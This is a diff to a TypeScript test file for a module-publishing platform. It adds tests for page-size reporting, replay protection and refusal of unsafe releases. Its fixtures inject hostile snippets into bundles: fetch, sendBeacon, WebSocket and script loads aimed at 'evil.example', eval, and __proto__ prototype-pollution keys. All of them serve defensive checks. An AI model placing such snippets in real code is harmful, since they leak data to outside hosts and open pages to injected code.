@@ -1,9 +1,13 @@
+import { randomBytes } from 'node:crypto';
 import { readdir } from 'node:fs/promises';
 import { join } from 'node:path';
 import type { Release } from '@sahn/contracts/releases/release';
+import { PublishedSchema } from '@sahn/contracts/releases/release-sizes';
 import request from 'supertest';
+import * as v from 'valibot';
 import { verifyAuditLog } from '../audit-log/audit-log.ts';
 import { sha256Hex } from '../digest/canonical-json.ts';
+import { repeats } from '../testing/long-run.ts';
 import { buildModule, buildShell, type ModuleOptions, relist } from '../testing/release-fixtures.ts';
 import { startSite, type TestSite } from '../testing/start-site.ts';
 import { describeOnOneDatabase } from '../testing/test-store.ts';
@@ -76,6 +80,39 @@ describeOnOneDatabase('a module whose pages do not come', () => {
 });
 
 describe('publishing', () => {
+  it('says how large its pages are, beside those of the live release', async () => {
+    const built = buildModule('books', {
+      seed: 'larger',
+      slots: { 'books-strip': "return 'strip'" },
+      spoil(release, files) {
+        files['web/chunk.js'] = `/* ${noise(8_000)} */`;
+        relist(release, files);
+      },
+    });
+    const { status, body } = await test.publish(built);
+    expect(status).toBe(201);
+    const { sizes, live } = v.parse(PublishedSchema, body);
+    expect(Object.keys(sizes?.pages ?? {})).toEqual(['books', 'books-strip']);
+    expect(sizes?.pages.books?.scripts).toBeGreaterThan(5_900 + (live?.pages.books?.scripts ?? 0));
+    expect(sizes?.pages.books?.styles).toBe(live?.pages.books?.styles);
+  });
+
+  it('is not counted again when it is sent again, nor what was activated with it', async () => {
+    const built = buildModule('books', { seed: 'replay', slots: { 'books-strip': "return 'strip'" } });
+    const { release } = built;
+    await test.publish(built);
+    const before = await seenByVisitors();
+    const base = (await test.services.compositions.live())?.number ?? 0;
+    const replay = () =>
+      request(test.platform)
+        .post('/compositions')
+        .set(bearer())
+        .send({ base: base - 1, releases: { books: release.version } });
+    expect((await test.publish(built)).status).toBe(200);
+    expect((await replay()).status).toBe(412);
+    expect(await seenByVisitors()).toEqual(before);
+  });
+
   it('takes a release in once', async () => {
     const built = buildModule('gallery');
     expect((await test.publish(built)).status).toBe(201);
@@ -126,6 +163,20 @@ describe('publishing', () => {
   });
 });
 
+/** Text that no compression makes smaller than three quarters. */
+function noise(length: number): string {
+  return randomBytes((length * 3) / 4).toString('base64');
+}
+
+/** What is live, byte by byte. */
+async function seenByVisitors(): Promise<unknown[]> {
+  const pages = ['/en/books', '/ur/books', '/fa/'].map((path) =>
+    request(test.site).get(path).set('host', 'localhost:8080'),
+  );
+  const live = await test.services.compositions.live();
+  return [live?.number, ...(await Promise.all(pages)).map(({ status, text }) => [status, text])];
+}
+
 describeOnOneDatabase('a release is refused', () => {
   const changed =
     (files: Record<string, string>): ModuleOptions['spoil'] =>
@@ -138,6 +189,13 @@ describeOnOneDatabase('a release is refused', () => {
     (release) =>
       change(release);
   const file = { bytes: 2, sha256: sha256Hex('{}') };
+
+  const isLong = repeats(0, 1) === 1;
+  const endless: [string, RegExp, ModuleOptions] = [
+    'a bundle that is never loaded',
+    /longer than/,
+    { atLoad: 'for (;;);' },
+  ];
 
   it.each<[string, RegExp, ModuleOptions]>([
     [
@@ -261,7 +319,8 @@ describeOnOneDatabase('a release is refused', () => {
     ["another module's path", /claims the path books/, { pages: { books: "return ''" } }],
     ["another module's slot entry", /claims the slot entry/, { slots: { 'books-strip': "return ''" } }],
     ['a bundle that throws', /bad does not load: .*boom/, { atLoad: "throw new Error('boom')" }],
-    ['a bundle that is never loaded', /longer than/, { atLoad: 'for (;;);' }],
+    // It takes the processor until the time of two processes to start is over.
+    ...(isLong ? [endless] : []),
     ['an undeclared dependency', /neither shared/, { atLoad: "require('lodash')" }],
     [
       'a page that throws',
@@ -282,17 +341,193 @@ describeOnOneDatabase('a release is refused', () => {
       { pages: { bad: 'process.exit(3)' } },
     ],
     ['a slot that throws', /bad fails at bad-strip/, { slots: { 'bad-strip': "throw new Error('boom')" } }],
+    // Scripts for browsers.
+    [
+      '`eval` in a script',
+      /^web\/chunk\.js: calls `eval\(`.* \(2:1\)$/,
+      { spoil: changed({ 'web/chunk.js': '\neval("1")' }) },
+    ],
+    [
+      'code that is made of a text',
+      /makes code of a text/,
+      { spoil: changed({ 'web/chunk.js': "(() => new Function('return 1'))()" }) },
+    ],
+    ...[
+      'fetch(U)',
+      'new Worker(U)',
+      'new WebSocket(U)',
+      'navigator.sendBeacon(U, 1)',
+      'importScripts(U)',
+    ].map((call): [string, RegExp, ModuleOptions] => [
+      `a load from another site: ${call}`,
+      /loads `(https|wss):\/\/evil\.example\/x` with \w+: a page loads from this site alone/,
+      {
+        spoil: changed({
+          'web/chunk.js': `(() => ${call.replace('U', `'${call.includes('Socket') ? 'wss' : 'https'}://evil.example/x'`)})()`,
+        }),
+      },
+    ]),
+    [
+      'a load from another site: a template',
+      /loads `\/\/evil\.example\/` with fetch/,
+      { spoil: changed({ 'web/chunk.js': '(() => fetch(`//evil.example/`))()' }) },
+    ],
+    [
+      'an import from another site',
+      /imports `https:\/\/evil\.example\/x\.js`/,
+      { spoil: changed({ 'web/chunk.js': "import('https://evil.example/x.js')" }) },
+    ],
+    [
+      'a picture of another site',
+      /loads `https:\/\/evil\.example\/x\.png` as src/,
+      { spoil: changed({ 'web/chunk.js': "(() => ({ src: 'https://evil.example/x.png' }))()" }) },
+    ],
+    [
+      'a script of another site, as an attribute',
+      /loads `https:\/\/evil\.example\/x\.js`/,
+      {
+        spoil: changed({
+          'web/chunk.js':
+            "(() => { const s = document.createElement('script'); s.setAttribute('src', 'https://evil.example/x.js') })()",
+        }),
+      },
+    ],
+    [
+      'a global of its own',
+      /writes the global `window\.jQuery`/,
+      { spoil: changed({ 'web/chunk.js': '(() => { window.jQuery = 1 })()' }) },
+    ],
+    [
+      'a declaration for the whole page',
+      /declares the global `books_1`/,
+      { spoil: changed({ 'web/chunk.js': 'var books_1 = {}' }) },
+    ],
+    [
+      "the container of another module's name",
+      /does not declare the global `bad_1_0_0_/,
+      { spoil: changed({ 'web/entry.js': 'var books_1_0_0 = {}' }) },
+    ],
+    [
+      "the chunks of another module's build",
+      /writes the global `self\.webpackChunkbooks`/,
+      { spoil: changed({ 'web/chunk.js': '(self.webpackChunkbooks ||= []).push([])' }) },
+    ],
+    [
+      "another module's folder as its own",
+      /loads from `\/modules\/books\/`/,
+      { spoil: changed({ 'web/chunk.js': "(() => { const r = {}; r.p = '/modules/books/web/' })()" }) },
+    ],
+    [
+      'a newer React that it would share',
+      /provides `react` 99\.0\.0: the shell alone/,
+      { spoil: changed({ 'web/chunk.js': "((register) => register('react', '99.0.0', () => 1))()" }) },
+    ],
+    [
+      'a newer React in a list of what it shares',
+      /provides `react` 99\.0\.0/,
+      {
+        spoil: changed({
+          'web/chunk.js': "(() => [{ name: 'react', version: '99.0.0', factory: () => 1 }])()",
+        }),
+      },
+    ],
+    [
+      'a React of its own',
+      /contains `react` or `react-dom`/,
+      {
+        spoil: changed({
+          'web/chunk.js':
+            '((e) => { e.__CLIENT_INTERNALS_DO_NOT_USE_OR_WARN_USERS_THEY_CANNOT_UPGRADE = {} })({})',
+        }),
+      },
+    ],
+    [
+      'a script that is nested without end',
+      /nested too deeply/,
+      { spoil: changed({ 'web/chunk.js': `(${'['.repeat(200_000)}${']'.repeat(200_000)})` }) },
+    ],
+    [
+      'a page beyond the budget',
+      /^bad: its scripts have 3[\d,]+ bytes with Brotli; the budget is 30,000\. The largest: web\/chunk\.js 3[\d,]+$/,
+      { spoil: changed({ 'web/chunk.js': `/* ${noise(45_000)} */` }) },
+    ],
+    [
+      'a page beyond the budget of its own',
+      /^bad: its styles have \d+ bytes with Brotli; the budget is 10\./,
+      { manifest: { budget: { styles: 10 } } },
+    ],
+    // Keys that would change every object.
+    ...['__proto__', 'constructor', 'prototype'].map((key): [string, RegExp, ModuleOptions] => [
+      `${key} as a name`,
+      /requires|there is no such key|does not share/,
+      { spoil: description((r) => (r.requires = JSON.parse(`{"${key}":"*","polluted":"*"}`))) },
+    ]),
+    // Server bundles that load, and are wrong.
+    [
+      'a bundle without what it should expose',
+      /bad does not load: .*exports no `exposed`/,
+      { spoil: changed({ 'server/module.cjs': 'exports.other = 1' }) },
+    ],
+    [
+      'a bundle without one of its pages',
+      /bad fails at bad on \/en\/bad/,
+      { spoil: changed({ 'server/module.cjs': 'exports.exposed = { routes: {}, slots: {} }' }) },
+    ],
+    [
+      'a page that is no function',
+      /bad fails at bad on \/en\/bad/,
+      { spoil: changed({ 'server/module.cjs': "exports.exposed = { routes: { bad: 'text' }, slots: {} }" }) },
+    ],
+    ['a page that returns what is no text', /bad fails at bad/, { pages: { bad: "return Symbol('x')" } }],
+    [
+      'a page that fails in one language only',
+      /^bad fails at bad on \/ur\/bad: .*only in Urdu$/,
+      { pages: { bad: "if (locale === 'ur') throw new Error('only in Urdu')" } },
+    ],
+    [
+      'a chunk of the server that is missing',
+      /bad does not load: .*gone\.cjs/,
+      { atLoad: "require('./gone.cjs')" },
+    ],
+    [
+      'a page that writes a global',
+      /bad fails at bad.*(extensible|Cannot add)/,
+      { pages: { bad: "(() => { 'use strict'; globalThis.evil = 1 })(); return ''" } },
+    ],
     ['a reach for the network', /fetch is not defined/, { pages: { bad: "fetch('http://localhost')" } }],
     ['a reach for the disk', /neither shared/, { atLoad: "require('node:fs')" }],
   ])(
     'for %s',
     async (name, reason, options) => {
-      const { status, body } = await test.publish(buildModule('bad', { seed: name, ...options }));
+      const before = await seenByVisitors();
+      const publishing = test.publish(buildModule('bad', { seed: name, ...options }));
+      expect(await seenByVisitors()).toEqual(before);
+      const { status, body } = await publishing;
       expect([status, body.code]).toEqual([422, 'release-refused']);
       expect(body.detail).toMatch(reason);
+      expect(await seenByVisitors()).toEqual(before);
+      expect(Object.keys(Object.prototype)).toEqual([]);
     },
     30_000,
   );
+
+  it('before other requests have to wait for its checks', async () => {
+    const order: string[] = [];
+    const long = `(() => [${'"a string of some length",'.repeat(180_000)}])(); eval('1')`;
+    const slow = buildModule('bad', { seed: 'long', spoil: changed({ 'web/chunk.js': long }) });
+    // Its files are stored then: what follows is the check alone.
+    await test.publish(slow);
+    const { name, version } = slow.release;
+    const publishing = request(test.platform)
+      .put(`/releases/${name}/${version}`)
+      .set(bearer())
+      .send(slow.release)
+      .then(({ body }) => order.push(body.code));
+    await seenByVisitors();
+    order.push('visitors');
+    await publishing;
+    expect(order).toEqual(['visitors', 'release-refused']);
+  });
 
   it('and leaves no trace but the files of those that were taken', async () => {
     expect((await test.services.releases.list()).map((release) => release.name)).not.toContain('bad');
